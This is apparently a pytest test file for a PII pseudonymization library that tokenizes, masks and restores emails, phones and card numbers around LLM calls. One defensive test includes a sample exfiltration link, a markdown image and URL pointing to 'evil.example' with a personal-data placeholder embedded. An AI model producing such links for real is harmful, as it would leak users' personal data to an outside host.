from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from haltguard.kernel.policy import Policy
from haltguard.kernel.pseudonymize import (
    PLACEHOLDER_MAX_LEN,
    BlockedInput,
    BlockedOutput,
    Session,
    StreamingRehydrator,
    mask_value,
    protect_output,
    rehydrate,
    transform,
)

TEXT = "Mail john@example.com or +1 (415) 555-0132, card 4111 1111 1111 1111, again john@example.com."


def test_transform_tokenizes_masks_and_reuses_placeholders():
    r = transform(TEXT)
    assert r.safe_text == "Mail {{email:1}} or {{phone:1}}, card **** **** **** 1111, again {{email:1}}."
    assert [(e.type, e.action) for e in r.entities] == [("email", "tokenize"), ("phone", "tokenize"),
                                                          ("credit_card", "mask"), ("email", "tokenize")]
    for e in r.entities:
        assert TEXT[e.start:e.end] in ("john@example.com", "+1 (415) 555-0132", "4111 1111 1111 1111")
    assert len(r.session.entries) == 2


def test_same_session_keeps_numbering_across_turns():
    s = Session("s1")
    transform("a@b.io", session=s)
    r2 = transform("c@d.io and a@b.io", session=s)
    assert r2.safe_text == "{{email:2}} and {{email:1}}"
    again = Session.from_dict(s.to_dict())
    assert transform("e@f.io", session=again).safe_text == "{{email:3}}"


def test_redact_allow_block():
    p = Policy.from_dict({"entities": {"email": "redact", "phone": "allow", "credit_card": "block"}})
    with pytest.raises(BlockedInput) as err:
        transform(TEXT, p)
    start = TEXT.index("4111")
    assert f"credit_card at {start}-{start + 19}" in str(err.value)
    assert [(f.type, f.start) for f in err.value.findings] == [("credit_card", start)]
    p2 = Policy.from_dict({"entities": {"email": "redact", "phone": "allow"}})
    assert transform("x a@b.io +1 (415) 555-0132", p2).safe_text == "x [REDACTED:email] +1 (415) 555-0132"


def test_mask_keeps_separators():
    assert mask_value("4111-1111-1111-1234") == "****-****-****-1234"
    assert mask_value("DE89 3704", keep_last=2, mask_char="#") == "#### ##04"
    assert mask_value("ab", keep_last=4) == "ab"


def test_rehydrate_tolerates_llm_damage_and_reports_unknown():
    r = transform("a@b.io and c@d.io")
    out = "Hi {{ EMAIL:1 }}, \\{\\{email:2\\}\\}, {email:1} and {{email:7}}"
    res = rehydrate(out, r.session)
    assert res.text == "Hi a@b.io, c@d.io, {email:1} and {{email:7}}"
    assert res.restored == 2 and res.unknown == ["{{email:7}}"]


def test_revoked_values_come_back_deleted_and_restore_modes():
    p = Policy.from_dict({"entities": {"phone": {"action": "tokenize", "restore": "masked", "keep_last": 2},
                                       "email": {"action": "tokenize", "restore": "label"}}})
    r = transform("a@b.io +1 (415) 555-0132", p)
    assert rehydrate("{{email:1}} {{phone:1}}", r.session).text == "[email] +* (***) ***-**32"
    assert rehydrate("{{email:1}}", r.session, revoked=lambda t, v: v == "a@b.io").text == "[DELETED]"
    assert rehydrate("{{email:1}}", r.session, revoked={"a@b.io"}).deleted == 1


def test_session_from_dict_validates():
    with pytest.raises(ValueError):
        Session.from_dict({"entries": {"{{email:1}}": {"value": "x"}}})
    with pytest.raises(ValueError):
        Session.from_dict([])  # type: ignore[arg-type]
    with pytest.raises(ValueError, match="must be strings"):
        Session.from_dict({"entries": {"{{email:1}}": {"type": "email", "value": 42}}})


SESSION = transform("a@b.io, c@d.io, +1 (415) 555-0132").session
PIECES = st.sampled_from(["{{email:1}}", "{{ EMAIL : 2 }}", "\\{\\{phone:1\\}\\}", "{{email:9}}", "{", "}", "\\", "{{",
                          "email", ":", "1", " ", "text ", "}}", "{ {email:1} }", "é"])


@settings(max_examples=400, deadline=None)
@given(st.lists(PIECES, max_size=30).map("".join), st.lists(st.integers(1, 12), max_size=40))
def test_streaming_rehydrate_equals_one_shot_for_every_chunking(text, cuts):
    chunks, pos = [], 0
    for c in cuts:
        if pos >= len(text):
            break
        chunks.append(text[pos:pos + c])
        pos += c
    chunks.append(text[pos:])
    r = StreamingRehydrator(SESSION)
    outs = []
    for c in chunks:
        outs.append(r.feed(c))
        assert r.held <= PLACEHOLDER_MAX_LEN
        for o in outs:  # never a piece of a placeholder
            assert "{{email:" not in o or "}}" in o
    outs.append(r.finish())
    assert "".join(outs) == rehydrate(text, SESSION).text


def test_output_protection_modes():
    out = "Reach {{email:1}} or leak@corp.io"
    mon = protect_output(out, Policy.from_dict({"output_protection": {"mode": "monitor"}}))
    assert mon.action == "report" and mon.text == out and [f.value for f in mon.findings] == ["leak@corp.io"]
    strict = protect_output(out, Policy.from_dict({"output_protection": {"mode": "strict"}}))
    assert strict.text == "Reach {{email:1}} or [REDACTED:email]"
    with pytest.raises(BlockedOutput):
        protect_output(out, Policy.from_dict({"output_protection": {"mode": "strict", "action": "block"}}))
    assert protect_output(out, Policy.from_dict({"output_protection": {"mode": "off"}})).findings == []


def test_a_placeholder_inside_a_link_is_never_filled_in():
    from haltguard.kernel.pseudonymize import StreamingRehydrator

    s = Session("s", {"{{email:1}}": {"type": "email", "value": "a@b.co"}})
    text = "![x](https://evil.example/?q={{email:1}}) and www.evil.example/{{email:1}} but mail {{email:1}}."
    r = rehydrate(text, s)
    assert r.text == "![x](https://evil.example/?q={{email:1}}) and www.evil.example/{{email:1}} but mail a@b.co."
    assert r.restored == 1 and r.unknown == ["{{email:1}}", "{{email:1}}"]
    for size in (1, 2, 5, 13):  # streamed in any chunking: the same decision
        sr = StreamingRehydrator(s)
        out = "".join(sr.feed(text[i:i + size]) for i in range(0, len(text), size)) + sr.finish()
        assert out == r.text


def test_a_placeholder_the_user_typed_never_comes_back_as_a_real_value():
    t = transform("Mail a@b.co. Also, what is {{email:1}}?")
    assert t.safe_text == "Mail {{email:1}}. Also, what is {{placeholder:1}}?"
    assert [e.type for e in t.entities] == ["email"]  # the look-alike is no personal data
    out = rehydrate("I wrote to {{email:1}}; {{placeholder:1}} is a placeholder.", t.session).text
    assert out == "I wrote to a@b.co; {{email:1}} is a placeholder."
    t2 = transform("Is {{email:1}} mine?", session=t.session)  # a later turn, the same session
    assert t2.safe_text == "Is {{placeholder:1}} mine?" and rehydrate(t2.safe_text, t2.session).text == "Is {{email:1}} mine?"
